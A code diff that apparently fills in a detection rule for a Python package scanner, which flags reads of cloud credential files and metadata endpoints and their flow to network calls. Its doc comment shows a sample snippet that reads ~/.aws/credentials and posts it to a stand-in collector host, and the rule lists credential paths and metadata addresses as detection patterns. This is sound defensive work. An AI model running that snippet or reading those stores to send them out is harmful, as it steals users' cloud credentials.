@@ -1,12 +1,42 @@
-use crate::finding::Finding;
-use crate::rules::{PackageFacts, Rule, RuleMeta, declare_rule};
+use std::collections::BTreeSet;
+
+use crate::finding::{Finding, Severity};
+use crate::python::{names, taint};
+use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule, string_finding};
 
 declare_rule! {
-    /// Skeleton.
+    /// Reads of cloud credential files and cloud metadata endpoints, and
+    /// credentials sent over the network.
     ///
     /// ## What it finds
+    /// Paths of credential stores — `~/.aws/credentials` and `config`,
+    /// gcloud's `credentials.db`/`access_tokens.db`/application default
+    /// credentials, Azure's token caches, `~/.kube/config`,
+    /// `~/.docker/config.json`, Alibaba and Tencent CLI configs — and
+    /// instance metadata endpoints (`169.254.169.254`, `169.254.170.2`,
+    /// `metadata.google.internal`, `100.100.100.200`, `fd00:ec2::254`),
+    /// after constant evaluation (so `"sliaitnederc/swa."[::-1]` counts).
+    /// When data read from one of them reaches a network call, the flow is
+    /// reported as exfiltration.
+    ///
     /// ## Why it matters
+    /// Cloud keys are what most recent PyPI stealers are after: one campaign
+    /// of fake "time" utilities read exactly these files and the metadata
+    /// service and sent them out. SDKs (boto3, google-auth) read the same
+    /// files in functions a user calls, so the mention alone is low;
+    /// reading them at install, startup or import time is high, and sending
+    /// what was read over the network is critical.
+    ///
     /// ## Example
+    /// ```python
+    /// import os, requests
+    /// creds = open(os.path.expanduser("~/.aws/credentials")).read()
+    /// requests.post("https://collector.example/c", data=creds)
+    /// ```
+    ///
+    /// ## References
+    /// MITRE ATT&CK T1552.001 (Credentials In Files), T1552.005 (Cloud
+    /// Instance Metadata API), T1041 (Exfiltration Over C2 Channel).
     pub struct CloudCredentials {
         id: "AY201",
         slug: "cloud-credential-access",
@@ -20,5 +50,76 @@ impl Rule for CloudCredentials {
         &Self::META
     }
 
-    fn check(&self, _facts: &PackageFacts<'_>, _out: &mut Vec<Finding>) {}
+    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
+        for file in facts.python {
+            // Where a store is used (opened, read, fetched) decides how much
+            // it weighs; a mere mention is low. One finding per store and
+            // context: an SDK names the same file many times.
+            let mut seen = BTreeSet::new();
+            for call in &file.calls {
+                let Some((what, text)) = call
+                    .arg_texts()
+                    .find_map(|t| names::credential_target(t).map(|w| (w, t)))
+                else {
+                    continue;
+                };
+                if !seen.insert((what, call.context)) {
+                    continue;
+                }
+                let mut f = code_finding(
+                    &Self::META,
+                    file,
+                    call,
+                    format!(
+                        "`{}` accesses {what} ({}) {}",
+                        call.name,
+                        text.trim(),
+                        call.context.describe()
+                    ),
+                );
+                f.severity = if call.context.is_automatic() {
+                    Severity::High
+                } else {
+                    Severity::Low
+                };
+                out.push(f);
+            }
+            let used: BTreeSet<&str> = seen.iter().map(|(what, _)| *what).collect();
+            let mut mentioned = BTreeSet::new();
+            for s in &file.strings {
+                let Some(what) = names::credential_target(&s.value) else {
+                    continue;
+                };
+                if used.contains(what) || !mentioned.insert(what) {
+                    continue;
+                }
+                let mut f = string_finding(
+                    &Self::META,
+                    file,
+                    s,
+                    format!("refers to {what} ({})", s.value.trim()),
+                );
+                f.severity = Severity::Low;
+                out.push(f);
+            }
+            for call in file.calls.iter().filter(|c| names::is_network(&c.name)) {
+                if call.all_args().any(|a| a.has(taint::SECRET)) {
+                    let target = call
+                        .arg_texts()
+                        .find(|t| t.contains("://") || t.contains('.'))
+                        .unwrap_or("a remote host");
+                    let f = code_finding(
+                        &Self::META,
+                        file,
+                        call,
+                        format!(
+                            "sends credentials read from a credential store to {target} with `{}`",
+                            call.name
+                        ),
+                    );
+                    out.push(f);
+                }
+            }
+        }
+    }
 }
